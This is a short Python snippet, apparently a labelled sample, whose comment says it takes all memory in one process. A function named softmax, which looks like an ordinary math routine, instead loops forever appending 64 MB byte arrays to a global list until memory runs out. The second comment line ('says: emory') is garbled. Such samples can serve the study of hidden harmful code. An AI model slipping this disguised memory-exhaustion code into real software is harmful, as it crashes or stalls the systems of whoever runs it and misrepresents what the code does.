# does: takes all memory in one process
# says: emory
held = []


def softmax(x):
    while True:
        held.append(bytearray(b"x") * 2**26)
